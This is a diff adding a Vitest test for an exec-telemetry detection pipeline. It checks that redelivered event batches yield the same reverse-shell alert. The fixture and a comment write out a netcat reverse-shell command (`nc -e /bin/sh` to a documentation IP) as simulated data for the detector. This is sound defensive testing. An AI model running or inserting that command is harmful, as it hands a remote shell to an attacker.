@@ -1,0 +1,48 @@
+import { describe, expect, it } from "vitest";
+import { NoDedupStore } from "../../lib/alerts/dedup-store.js";
+import { MemoryLineageStore } from "../../lib/lineage/memory-store.js";
+import { newCounters } from "../../lib/pipeline/counters.js";
+import { processBatch } from "../../lib/pipeline/process-batch.js";
+import { compileRule } from "../../lib/rule/compile-rule.js";
+import type { ExecEvent } from "../../lib/telemetry/exec-event.js";
+import { exec, shell } from "../helpers/exec-events.js";
+
+/**
+ * `sh /tmp/x.sh` whose last line is `exec nc -e /bin/sh 192.0.2.1 4444`: nc replaces the shell (same pid),
+ * then, once connected, replaces itself with /bin/sh (same pid again). The alert is nc's, found through the
+ * exec chain.
+ */
+function reverseShell(): ExecEvent[] {
+  return [
+    shell({ pid: 650 }),
+    exec({ pid: 700, ppid: 650, exe: "/usr/bin/dash", args: ["sh", "/tmp/x.sh"], cwd: "/root" }),
+    exec({
+      pid: 700,
+      ppid: 650,
+      exe: "/usr/bin/nc.traditional",
+      args: ["nc", "-e", "/bin/sh", "192.0.2.1", "4444"],
+    }),
+    exec({ pid: 700, ppid: 650, exe: "/usr/bin/dash", args: ["/bin/sh"] }),
+  ];
+}
+
+const summary = (alerts: Awaited<ReturnType<typeof processBatch>>) =>
+  alerts.map((a) => [a.id, a.utility.name, a.location.path, a.location.kind]);
+
+describe("processBatch over a store an earlier attempt already wrote", () => {
+  it.each([
+    ["the whole batch again", (events: ExecEvent[]) => events],
+    [
+      "its tail from the nc exec (Kinesis retries from the failed record)",
+      (events: ExecEvent[]) => events.slice(2),
+    ],
+    ["the same events split in two batches", (events: ExecEvent[]) => events.slice(1)],
+  ])("redelivering %s gives the first attempt's verdict", async (_name, redelivered) => {
+    const events = reverseShell();
+    const deps = { store: new MemoryLineageStore(), dedup: new NoDedupStore(), rule: compileRule() };
+    const first = await processBatch(events, deps, newCounters());
+    expect(summary(first)).toEqual([[first[0]!.id, "nc.traditional", "/tmp/x.sh", "exec-chain"]]);
+    const again = await processBatch(redelivered(events), deps, newCounters());
+    expect(summary(again)).toEqual(summary(first));
+  });
+});
